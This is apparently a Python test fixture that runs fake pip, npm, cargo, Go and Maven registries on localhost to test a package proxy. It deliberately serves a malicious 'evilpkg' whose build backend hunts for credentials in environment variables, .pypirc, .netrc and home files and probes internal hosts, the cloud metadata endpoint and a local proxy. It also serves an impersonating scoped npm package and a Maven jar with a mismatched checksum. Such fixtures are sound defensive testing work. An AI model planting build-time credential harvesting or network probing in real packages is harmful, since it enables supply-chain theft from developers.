"""Registries of one package each, as pip, npm, cargo, Go and Maven read them, at `http://registry.test` for who takes this for a proxy;
prints its port and what each knows its package by."""
import base64
import hashlib
import http.server
import io
import json
import os
import tarfile
import zipfile


def archive(files):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as out:
        for name, text in files.items():
            out.writestr(name, text)
    return packed.getvalue()


def tarball(files):
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as out:
        for name, text in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(text)
            out.addfile(entry, io.BytesIO(text.encode()))
    return packed.getvalue()


def go_hash(files):
    """The hash of `go.sum`: of a list of files with theirs."""
    lines = ["%s  %s\n" % (hashlib.sha256(text.encode()).hexdigest(), name) for name, text in sorted(files.items())]
    return "h1:" + base64.b64encode(hashlib.sha256("".join(lines).encode()).digest()).decode()


def sha512(data):
    return base64.b64encode(hashlib.sha512(data).digest()).decode()


WHEEL = archive({
    "tinylib/__init__.py": "WAY = 'E'\n",
    "tinylib-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: tinylib\nVersion: 1.0\n",
    "tinylib-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    "tinylib-1.0.dist-info/RECORD": "",
})
EVIL = """
import glob, os, socket
gained = [name for name, value in os.environ.items() if "s3cr3t" in value]
for place in ["/tmp/*", "/home/*", "/root", os.path.expanduser("~")]:
    gained += glob.glob(place + "/.pypirc") + glob.glob(place + "/.netrc")
for path in glob.glob(os.path.expanduser("~") + "/**/*", recursive=True) + glob.glob(os.path.expanduser("~") + "/.config/**/*", recursive=True):
    if os.path.isfile(path) and "s3cr3t" in open(path, errors="replace").read():
        gained.append(path)
def reach(address, *words):
    try:
        with socket.create_connection(address, 5) as one:
            one.settimeout(5)
            for word in words:
                one.sendall(word.encode())
            answer = one.recv(100).decode()
            if " 403 " not in answer and " 405 " not in answer:
                gained.append((address, words, answer))
    except OSError:
        pass
for host in ["127.0.0.1", "10.0.0.1", "169.254.169.254", "192.168.0.1"]:
    reach((host, PORT), "GET /simple/tinylib/ HTTP/1.0\\r\\n\\r\\n")
    reach(("127.0.0.1", 3128), "CONNECT %s:PORT HTTP/1.1\\r\\n\\r\\n" % host)
    reach(("127.0.0.1", 3128), "GET http://%s:PORT/simple/tinylib/ HTTP/1.1\\r\\n\\r\\n" % host)
for method in ["PUT", "POST", "DELETE"]:
    reach(("127.0.0.1", 3128), method + " http://registry.test/private/simple/tinylib/ HTTP/1.1\\r\\nContent-Length: 0\\r\\n\\r\\n")
reach(("127.0.0.1", 3128), "CONNECT other.test:443 HTTP/1.1\\r\\n\\r\\n")
print("GAINED: %r" % gained)
raise SystemExit(1)
"""


def evil(port):
    """The source of a package whose build runs code."""
    return tarball({
        "evilpkg-1.0/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n',
        "evilpkg-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
        "evilpkg-1.0/evil.py": EVIL.replace("PORT", str(port)),
    })


EVIL_LINK = "<a href='/files/evilpkg-1.0.tar.gz'>evilpkg-1.0.tar.gz</a>"
LINK = "<a href='/files/tinylib-1.0-py3-none-any.whl'>tinylib-1.0-py3-none-any.whl</a>"
NPM = tarball({
    "package/package.json": '{"name": "tinylib", "version": "1.0.0", "main": "index.js"}\n',
    "package/index.js": "exports.WAY = 'E';\n",
})
# A package that calls itself as another one.
OTHER_NPM = tarball({
    "package/package.json": json.dumps({"name": "tinylib", "version": "1.0.0", "main": "index.js"}),
    "package/index.js": "exports.WAY = 'W';\n",
})
# Its address ends as one of `tinylib` does.
SCOPED = "@own_node_modules/tinylib"
SCOPED_FILE = "/%s/-/tinylib-1.0.0.tgz" % SCOPED
CRATE = tarball({
    "tinylib-1.0.0/Cargo.toml": '[package]\nname = "tinylib"\nversion = "1.0.0"\nedition = "2021"\n',
    "tinylib-1.0.0/src/lib.rs": "pub const WAY: &str = \"E\";\n",
})
CHECKSUM = hashlib.sha256(CRATE).hexdigest()
GO_MOD = "module tiny.example/lib\n\ngo 1.18\n"
GO_FILES = {
    "tiny.example/lib@v1.0.0/go.mod": GO_MOD,
    "tiny.example/lib@v1.0.0/lib.go": "package lib\n\nconst Way = \"E\"\n",
}
POM = "<project><modelVersion>4.0.0</modelVersion><groupId>tiny.example</groupId><artifactId>%s</artifactId><version>1.0</version></project>"
JAR = archive({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n"})
# What Maven itself is made of.
OWN_MAVEN = os.path.expanduser("~/.m2/repository")


def maven(path):
    """A file of a repository of Maven; `badlib` is not what its checksum says."""
    name = path.removesuffix(".sha1")
    own = os.path.realpath(os.path.join(OWN_MAVEN, name))
    if name in ["tiny/example/%s/1.0/%s-1.0.pom" % (one, one) for one in ["tinylib", "badlib"]]:
        found = (POM % name.split("/")[2]).encode()
    elif name in ["tiny/example/%s/1.0/%s-1.0.jar" % (one, one) for one in ["tinylib", "badlib"]]:
        found = JAR
    elif own.startswith(OWN_MAVEN + "/") and name.endswith((".pom", ".jar")) and os.path.isfile(own):
        found = open(own, "rb").read()
    else:
        return None
    if name == path:
        return found
    return hashlib.sha1(b"another" if name.endswith("badlib-1.0.jar") else found).hexdigest().encode()


INDEX = {"name": "tinylib", "vers": "1.0.0", "deps": [], "cksum": CHECKSUM, "features": {}, "yanked": False}


class Registry(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path = self.path.removeprefix("http://registry.test")
        base = "http://registry.test" if path != self.path else "http://127.0.0.1:%d" % self.server.server_port
        tarball = {"tarball": base + "/npm/tinylib.tgz", "integrity": "sha512-" + sha512(NPM)}
        versions = {"1.0.0": {"name": "tinylib", "version": "1.0.0", "dist": tarball}}
        other = {"tarball": base + "/other/-/other-1.0.0.tgz", "integrity": "sha512-" + sha512(OTHER_NPM)}
        others = {"1.0.0": {"name": "other", "version": "1.0.0", "dist": other}}
        scoped = {"name": SCOPED, "versions": {"1.0.0": {"name": SCOPED, "version": "1.0.0", "dist": {**other, "tarball": base + SCOPED_FILE}}}}
        # What lies beneath here is for who shows `ada:s3cr3t`.
        if path.startswith("/private/"):
            is_known = self.headers.get("Authorization") == "Basic " + base64.b64encode(b"ada:s3cr3t").decode()
            path = path.removeprefix("/private") if is_known else "/nothing"
        found = {
            "/simple/tinylib/": ("text/html", LINK),
            "/files/tinylib-1.0-py3-none-any.whl": ("application/zip", WHEEL),
            "/simple/evilpkg/": ("text/html", EVIL_LINK),
            "/files/evilpkg-1.0.tar.gz": ("application/gzip", evil(self.server.server_port)),
            "/tinylib": ("application/json", json.dumps({"name": "tinylib", "versions": versions})),
            "/npm/tinylib.tgz": ("application/gzip", NPM),
            "/other": ("application/json", json.dumps({"name": "other", "versions": others})),
            "/other/-/other-1.0.0.tgz": ("application/gzip", OTHER_NPM),
            "/" + SCOPED.replace("/", "%2f"): ("application/json", json.dumps(scoped)),
            SCOPED_FILE: ("application/gzip", OTHER_NPM),
            "/index/config.json": ("application/json", json.dumps({"dl": base + "/crates"})),
            "/index/ti/ny/tinylib": ("text/plain", json.dumps(INDEX)),
            "/crates/tinylib/1.0.0/download": ("application/gzip", CRATE),
            "/tiny.example/lib/@v/list": ("text/plain", "v1.0.0\n"),
            "/tiny.example/lib/@v/v1.0.0.info": ("application/json", '{"Version": "v1.0.0"}'),
            "/tiny.example/lib/@v/v1.0.0.mod": ("text/plain", GO_MOD),
            "/tiny.example/lib/@v/v1.0.0.zip": ("application/zip", archive(GO_FILES)),
        }.get(path)
        if path.startswith("/maven/"):
            found = maven(path.removeprefix("/maven/"))
            found = found and ("application/octet-stream", found)
        kind, body = found or ("text/plain", "not here")
        body = body.encode() if isinstance(body, str) else body
        self.send_response(200 if found else 404)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry)
hashes = {
    "npm": "sha512-" + sha512(NPM),
    "other": "sha512-" + sha512(OTHER_NPM),
    "cargo": CHECKSUM,
    "go": go_hash(GO_FILES),
    "go.mod": go_hash({"go.mod": GO_MOD}),
}
print(json.dumps({"port": server.server_port, "hashes": hashes}), flush=True)
server.serve_forever()
